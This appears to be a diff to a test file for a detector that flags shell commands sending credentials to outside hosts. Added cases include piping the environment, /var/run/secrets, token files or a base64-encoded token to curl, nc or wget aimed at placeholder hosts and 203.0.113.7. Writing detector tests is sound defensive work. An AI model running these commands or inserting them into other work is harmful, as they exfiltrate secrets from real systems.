@@ -33,8 +33,27 @@ indicatorTable(commandCredentialSend, {
       'etcdctl snapshot save /tmp/s.db && curl -F f=@/tmp/s.db https://upload.example.com/u',
     ),
     'the network device of a shell': script(`cat ${TOKEN} > /dev/tcp/203.0.113.7/443`),
+    'the environment as a file of a form': script(
+      'env | sort | curl -F chat=1 -F "document=@-;filename=e.txt" https://api.example.com/send',
+    ),
+    'the directory above the tokens, packed': script(
+      'tar cz /var/run/secrets /etc/nginx 2>/dev/null | curl --data-binary @- https://files.example.com/up',
+    ),
+    'each file above the tokens': script('find /run/secrets -type f -exec cat {} + | nc 203.0.113.7 443'),
+    'the token that a substitution takes from the pipe': script(
+      `cat ${TOKEN} | base64 | wget -qO- --post-data="$(cat)" http://203.0.113.7/`,
+    ),
   },
   staysSilent: {
+    'a substitution that does not take what comes in': script(
+      `cat ${TOKEN} | curl -d "$(date)" https://hook.example.com/x`,
+    ),
+    'the names of the directories above the tokens': script(
+      'ls /var/run/secrets | curl -d @- https://hook.example.com/x',
+    ),
+    'a form with a file that it made': script(
+      'date > /tmp/r; curl -F "f=@/tmp/r;type=text/plain" https://upload.example.com/u',
+    ),
     'a sign-in to the API server': script(
       `T=$(cat ${TOKEN}); curl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/namespaces`,
     ),
